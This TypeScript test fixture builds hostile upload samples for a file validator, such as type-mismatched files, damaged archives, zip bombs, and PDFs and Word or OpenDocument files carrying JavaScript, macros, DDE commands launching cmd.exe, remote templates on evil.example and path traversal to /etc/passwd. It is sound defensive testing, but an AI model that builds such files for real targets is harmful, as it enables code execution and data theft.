import { randomFillSync } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { jpeg, png } from './image-builder.ts';
import { contentTypes, docx, encryptedManifest, odt, openText, rels, wordField, wordText } from './office-builder.ts';
import { objectStream, pdf } from './pdf-builder.ts';
import type { Sample } from './sample.ts';
import { type Part, partBytes, zip } from './zip-builder.ts';

const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)]);
const relation = (kind: string, target: string): Part => ({
  name: 'word/_rels/settings.xml.rels',
  data: rels({ kind, target, isExternal: true }),
});
const body = (text: string): Part => ({ name: 'word/document.xml', data: wordText(text) });
const javaScript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

const lies: readonly Sample[] = [
  { why: 'a PNG called .pdf', name: 'scan.pdf', bytes: () => png(), comes: 'type-lies', found: 'png' },
  { why: 'a PDF called .jpg', name: 'scan.jpg', bytes: () => pdf(), comes: 'type-lies', found: 'pdf' },
  { why: 'a JPG called .png', name: 'scan.png', bytes: () => jpeg(), comes: 'type-lies', found: 'jpg' },
  { why: 'a Word document called .odt', name: 'cv.odt', bytes: () => docx(), comes: 'type-lies', found: 'docx' },
  { why: 'an OpenDocument called .docx', name: 'cv.docx', bytes: () => odt(), comes: 'type-lies', found: 'odt' },
  { why: 'a Word document called .pdf', name: 'cv.pdf', bytes: () => docx(), comes: 'type-lies', found: 'zip' },
  { why: 'a PDF without an extension', name: 'scan', bytes: () => pdf(), comes: 'type-lies', found: 'pdf' },
  {
    why: 'SVG called .jpg',
    name: 'foto.jpg',
    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    comes: 'type-lies',
  },
  {
    why: 'HTML called .jpg',
    name: 'foto.jpg',
    bytes: () => Buffer.from('<html><script>alert(1)</script>'),
    comes: 'type-lies',
  },
  {
    why: 'a program called .jpg',
    name: 'foto.jpg',
    bytes: () => Buffer.concat([Buffer.from('MZ\x90\0\x03', 'latin1'), Buffer.alloc(500)]),
    comes: 'type-lies',
  },
  { why: 'an old Word file called .docx', name: 'cv.docx', bytes: () => ole, comes: 'type-lies', found: 'cfb' },
  {
    why: 'a spreadsheet called .docx',
    name: 'cv.docx',
    bytes: () =>
      zip([
        { name: '[Content_Types].xml', data: contentTypes('x') },
        { name: 'xl/workbook.xml', data: '<a/>' },
      ]),
    comes: 'type-lies',
    found: 'zip',
  },
  {
    why: 'a PDF that is an archive as well',
    name: 'cv.pdf',
    bytes: () => Buffer.concat([pdf(), zip([{ name: 'a.txt', data: 'a' }], { comment: '\nstartxref\n0\n%%EOF\n' })]),
    comes: 'type-lies',
    found: 'mixed',
  },
  {
    why: 'a photo that is an archive as well',
    name: 'foto.jpg',
    bytes: () => Buffer.concat([jpeg(), docx()]),
    comes: 'type-lies',
    found: 'mixed',
  },
  {
    why: 'an archive that is a PDF as well',
    name: 'cv.docx',
    bytes: () => docx([{ name: '[Content_Types].xml', data: `${contentTypes()}<!--%PDF-1.7-->`, isStored: true }]),
    comes: 'type-lies',
    found: 'mixed',
  },
  {
    why: 'a document that is Word and OpenDocument at once',
    name: 'cv.docx',
    bytes: () =>
      docx([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
        { name: 'content.xml', data: openText('') },
      ]),
    comes: 'type-lies',
    found: 'mixed',
  },
];

const unwanted: readonly Sample[] = [
  {
    why: 'a plain archive',
    name: 'alles.zip',
    bytes: () => zip([{ name: 'a.txt', data: 'a' }]),
    comes: 'type-not-allowed',
  },
  { why: 'an old Word file', name: 'cv.doc', bytes: () => ole, comes: 'type-not-allowed' },
  { why: 'a web page', name: 'cv.html', bytes: () => Buffer.from('<html></html>'), comes: 'type-not-allowed' },
  { why: 'a text', name: 'cv.txt', bytes: () => Buffer.from('cv'), comes: 'type-not-allowed' },
  {
    why: 'an OpenDocument spreadsheet',
    name: 'cv.ods',
    bytes: () => odt([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet' }]),
    comes: 'type-not-allowed',
  },
  { why: 'nothing at all', name: 'leeg.pdf', bytes: () => Buffer.alloc(0), comes: 'empty' },
];

const broken: readonly Sample[] = [
  { why: 'half a PDF', name: 'cv.pdf', bytes: () => half(pdf('', ['(x)'.repeat(500)])), comes: 'damaged' },
  { why: 'only the head of a PDF', name: 'cv.pdf', bytes: () => Buffer.from('%PDF-1.7\n'), comes: 'damaged' },
  { why: 'half a Word document', name: 'cv.docx', bytes: () => half(docx()), comes: 'damaged' },
  { why: 'half an OpenDocument', name: 'cv.odt', bytes: () => half(odt()), comes: 'damaged' },
  { why: 'half a photo', name: 'foto.jpg', bytes: () => jpeg().subarray(0, -2), comes: 'damaged' },
  {
    why: 'a photo without a frame',
    name: 'foto.jpg',
    bytes: () => Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
    comes: 'damaged',
  },
  { why: 'half a picture', name: 'foto.png', bytes: () => png().subarray(0, -6), comes: 'damaged' },
  { why: 'a picture of no height', name: 'foto.png', bytes: () => png(10, 0), comes: 'damaged' },
  {
    why: 'a part whose sum is wrong',
    name: 'cv.docx',
    bytes: () => docx([{ ...body('x'), sum: 1 }]),
    comes: 'damaged',
  },
  {
    why: 'a part that says it is larger than it is',
    name: 'cv.docx',
    bytes: () => docx([{ ...body('x'), declaredSize: 4000 }]),
    comes: 'damaged',
  },
  {
    why: 'a part whose own header says another size than the directory',
    name: 'cv.docx',
    bytes: () => docx([{ ...body('x'), ownSize: 10 }]),
    comes: 'damaged',
  },
  {
    why: 'a part whose own header says another name than the directory',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/note.xml', ownName: 'word/evil.xml', data: wordText('') }]),
    comes: 'damaged',
  },
  {
    why: 'two parts of one name',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'WORD/document.xml', data: wordText('') }]),
    comes: 'damaged',
  },
  {
    why: 'a part that climbs out of the archive',
    name: 'cv.docx',
    bytes: () => docx([{ name: '../../etc/passwd', data: 'x' }]),
    comes: 'damaged',
  },
  {
    why: 'a symbolic link',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/link', data: '/etc/passwd', attributes: 0o120777 * 0x10000 }]),
    comes: 'damaged',
  },
  {
    why: 'a directory that says it holds fewer parts than it does',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/vbaProject.bin', data: ole, at: 0 }], { count: 3 }),
    comes: 'damaged',
  },
  {
    why: 'a program before the archive',
    name: 'cv.docx',
    bytes: () => Buffer.concat([Buffer.from('PK\x03\x04MZ', 'latin1'), docx()]),
    comes: 'damaged',
  },
  {
    why: 'something hidden between two parts',
    name: 'cv.docx',
    bytes: () => docx([], { gap: Buffer.alloc(500) }),
    comes: 'damaged',
  },
  {
    why: 'a packing that no word processor reads',
    name: 'cv.docx',
    bytes: () => docx([{ ...body('x'), method: 12 }]),
    comes: 'damaged',
  },
  {
    why: 'XML that is cut off',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/document.xml', data: '<w:document><w:body' }]),
    comes: 'damaged',
  },
  {
    why: 'XML in an encoding nobody writes',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/document.xml', data: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    comes: 'damaged',
  },
];

const locked: readonly Sample[] = [
  {
    why: 'a PDF with a password',
    name: 'cv.pdf',
    bytes: () => pdf('', ['<< /Filter /Standard /V 2 >>'], '/Encrypt 4 0 R'),
    comes: 'protected',
  },
  {
    why: 'an OpenDocument with a password',
    name: 'cv.odt',
    bytes: () =>
      odt([
        { name: 'content.xml', data: Buffer.from([1, 2, 3]) },
        { name: 'META-INF/manifest.xml', data: encryptedManifest },
      ]),
    comes: 'protected',
  },
  {
    why: 'an archive with a password',
    name: 'cv.docx',
    bytes: () => docx([{ ...body('x'), flags: 1 }]),
    comes: 'protected',
  },
];

const activePdf: readonly Sample[] = [
  {
    why: 'a PDF that runs JavaScript when opened',
    name: 'cv.pdf',
    bytes: () => pdf('/OpenAction 4 0 R', [javaScript]),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'JavaScript in another spelling',
    name: 'cv.pdf',
    bytes: () => pdf('', ['<< /#53 %c\n /J#61vaScri#70t /JS (x) >>']),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'JavaScript in a packed object',
    name: 'cv.pdf',
    bytes: () => pdf('', [objectStream({ 9: javaScript })]),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'JavaScript in an object stream that hides its type',
    name: 'cv.pdf',
    bytes: () =>
      pdf('', [
        {
          dictionary: '/N 1 /F#69rst 4 /Filter [/Fl#61teDecode]',
          stream: deflateSync(Buffer.from(`9 0 ${javaScript}`)),
        },
      ]),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'an object stream packed in a way we do not read',
    name: 'cv.pdf',
    bytes: () => pdf('', [objectStream({ 9: '1' }, '/Filter [/ASCIIHexDecode /FlateDecode]')]),
    comes: 'active-content',
    found: 'hidden',
  },
  {
    why: 'JavaScript as an object of its own',
    name: 'cv.pdf',
    bytes: () => pdf('', ['/JavaScript', '<< /S 4 0 R >>']),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'JavaScript in the name tree',
    name: 'cv.pdf',
    bytes: () => pdf('/Names << /JavaScript 4 0 R >>'),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'JavaScript hidden in what looks like a picture',
    name: 'cv.pdf',
    bytes: () => pdf('', [{ dictionary: '/Subtype /Image', stream: Buffer.from(`9 0 obj ${javaScript} endobj`) }]),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'a PDF that starts a program',
    name: 'cv.pdf',
    bytes: () => pdf('', ['<< /S/Launch /F (cmd.exe) >>']),
    comes: 'active-content',
    found: 'automatic',
  },
  {
    why: 'a PDF that opens a web page by itself',
    name: 'cv.pdf',
    bytes: () => pdf('/OpenAction << /S /URI /URI (http://x) >>'),
    comes: 'active-content',
    found: 'automatic',
  },
  {
    why: 'an opening that goes to a place and then elsewhere',
    name: 'cv.pdf',
    bytes: () => pdf('/OpenAction [3 0 R /Fit] /OpenAction << /S /URI /URI (http://x) >>'),
    comes: 'active-content',
    found: 'automatic',
  },
  {
    why: 'an opening action that is nowhere',
    name: 'cv.pdf',
    bytes: () => pdf('/OpenAction 99 0 R'),
    comes: 'active-content',
    found: 'automatic',
  },
  {
    why: 'a page with an action of its own',
    name: 'cv.pdf',
    bytes: () => pdf('/AA << /WC 4 0 R >>'),
    comes: 'active-content',
    found: 'automatic',
  },
  {
    why: 'a file in a PDF',
    name: 'cv.pdf',
    bytes: () => pdf('/Names << /EmbeddedFiles 4 0 R >>'),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'a file behind a paper clip',
    name: 'cv.pdf',
    bytes: () => pdf('', ['<< /Type /Filespec /EF << /F 5 0 R >> >>']),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'a form with a program',
    name: 'cv.pdf',
    bytes: () => pdf('/AcroForm << /XFA [(a) 4 0 R] >>'),
    comes: 'active-content',
    found: 'script',
  },
  {
    why: 'a form that sends itself',
    name: 'cv.pdf',
    bytes: () => pdf('', ['<< /S /SubmitForm /F (http://x) >>']),
    comes: 'active-content',
    found: 'remote',
  },
];

const activeOffice: readonly Sample[] = [
  {
    why: 'macros',
    name: 'cv.docm',
    bytes: () =>
      docx([
        { name: '[Content_Types].xml', data: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') },
        { name: 'word/vbaProject.bin', data: ole },
      ]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'macros called .docx',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/vbaProject.bin', data: ole }]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'macros under another name',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/theme.dat', data: ole }]),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'a document that says it may hold macros',
    name: 'cv.docx',
    bytes: () =>
      docx([
        { name: '[Content_Types].xml', data: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') },
      ]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'an OLE object',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'a control',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/activeX/activeX1.xml', data: '<a/>' }]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'a template on the web',
    name: 'cv.docx',
    bytes: () => docx([relation('attachedTemplate', 'https://evil.example/t.dotm')]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'a template on a share',
    name: 'cv.docx',
    bytes: () => docx([relation('attachedTemplate', '\\\\evil.example\\t.dotm')]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'a template on a share, as a file address',
    name: 'cv.docx',
    bytes: () => docx([relation('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'a template on the web in another spelling',
    name: 'cv.docx',
    bytes: () =>
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          data: rels({ kind: 'attachedTemplate', target: 'https://e.example/t' }).replace(
            '/>',
            ' TargetMode="&#69;xternal"/>',
          ),
        },
      ]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'an object on the web',
    name: 'cv.docx',
    bytes: () => docx([relation('oleObject', 'https://evil.example/x!')]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'a picture on a share',
    name: 'cv.docx',
    bytes: () => docx([relation('image', 'file://evil.example/x.png')]),
    comes: 'active-content',
    found: 'remote',
  },
  {
    why: 'a document within the document',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/_rels/document.xml.rels', data: rels({ kind: 'aFChunk', target: 'evil.rtf' }) }]),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'an archive in an archive',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/media/image1.png', data: zip([{ name: 'bomb', data: zeros(1) }]) }]),
    comes: 'active-content',
    found: 'attachment',
  },
  {
    why: 'DDE',
    name: 'cv.docx',
    bytes: () => docx([body(wordField(' DDEAUTO c:\\\\cmd.exe "/k calc" '))]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'DDE in pieces',
    name: 'cv.docx',
    bytes: () => docx([body(wordField(' D', '&#68;<!-- x -->', '<![CDATA[E]]>', ' cmd'))]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'DDE in a simple field',
    name: 'cv.docx',
    bytes: () => docx([body('<w:fldSimple w:instr="DDE &quot;cmd&quot;"/>')]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'DDE spelled by a field',
    name: 'cv.docx',
    bytes: () => docx([body(wordField(`<w:r>${wordField(' QUOTE 68 68 69 ')}</w:r>`, ' cmd'))]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'DDE in UTF-16',
    name: 'cv.docx',
    bytes: () =>
      docx([
        {
          name: 'word/footnotes.xml',
          data: Buffer.from(wordText(wordField('DDE cmd')).replace('UTF-8', 'UTF-16'), 'utf16le'),
        },
      ]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'a document type with entities',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/document.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
    comes: 'active-content',
    found: 'hidden',
  },
  {
    why: 'an OpenDocument with a Basic macro',
    name: 'cv.odt',
    bytes: () => odt([{ name: 'Basic/Standard/Module1.xml', data: '<a/>' }]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'an OpenDocument that reacts to events',
    name: 'cv.odt',
    bytes: () =>
      odt([{ name: 'content.xml', data: openText('<script:event-listener xlink:href="vnd.sun.star.script:x"/>') }]),
    comes: 'active-content',
    found: 'macros',
  },
  {
    why: 'an OpenDocument with DDE',
    name: 'cv.odt',
    bytes: () => odt([{ name: 'content.xml', data: openText('<text:dde-connection-decl/>') }]),
    comes: 'active-content',
    found: 'dde',
  },
  {
    why: 'an OpenDocument with a section from the web',
    name: 'cv.odt',
    bytes: () => odt([{ name: 'content.xml', data: openText('<text:section-source xlink:href="http://x/y"/>') }]),
    comes: 'active-content',
    found: 'remote',
  },
];

/** A stored part whose data is a part of its own: both are in the directory, their bytes are there once. */
function overlapping(): Buffer {
  const inner: Part = { name: 'b', data: zeros(1) };
  const outer: Part = { name: 'a', data: partBytes(inner), isStored: true };
  return zip([outer, { ...inner, at: partBytes({ name: 'a', data: '', isStored: true }).length }]);
}

const bombs: readonly Sample[] = [
  {
    why: 'a zip bomb in a Word document',
    name: 'cv.docx',
    bytes: () => docx([{ name: 'word/media/image1.bmp', data: zeros(150) }]),
    comes: 'zip-bomb',
  },
  {
    why: 'parts that together say they are 201 MB',
    name: 'cv.docx',
    bytes: () =>
      docx([
        { name: 'a', data: zeros(1), declaredSize: 100 * 1024 ** 2 },
        { name: 'b', data: zeros(1), declaredSize: 101 * 1024 ** 2 },
      ]),
    comes: 'zip-bomb',
  },
  {
    why: 'a part that says it is smaller than it is',
    name: 'cv.docx',
    bytes: () =>
      docx([{ name: 'word/media/image1.jpg', data: randomFillSync(Buffer.alloc(30_000)), declaredSize: 900 }]),
    comes: 'zip-bomb',
  },
  { why: 'parts that share one heap of zeros', name: 'cv.docx', bytes: overlapping, comes: 'zip-bomb' },
  {
    why: '2 001 parts',
    name: 'cv.docx',
    bytes: () => docx(Array.from({ length: 1998 }, (_, n) => ({ name: `n${n}`, data: '' }))),
    comes: 'zip-bomb',
  },
  {
    why: 'a picture of more than 100 million points',
    name: 'plan.png',
    bytes: () => png(10_000, 10_001),
    comes: 'zip-bomb',
  },
  { why: 'a photo of 4 000 million points', name: 'plan.jpg', bytes: () => jpeg(65_000, 65_000), comes: 'zip-bomb' },
  {
    why: 'a bomb in an object stream',
    name: 'cv.pdf',
    bytes: () => pdf('', [objectStream({ 9: ' '.repeat(40 * 1024 * 1024) })]),
    comes: 'zip-bomb',
  },
];

/** What is sent to do harm, or was harmed on its way. */
export const hostileFiles = [...lies, ...unwanted, ...broken, ...locked, ...activePdf, ...activeOffice, ...bombs];
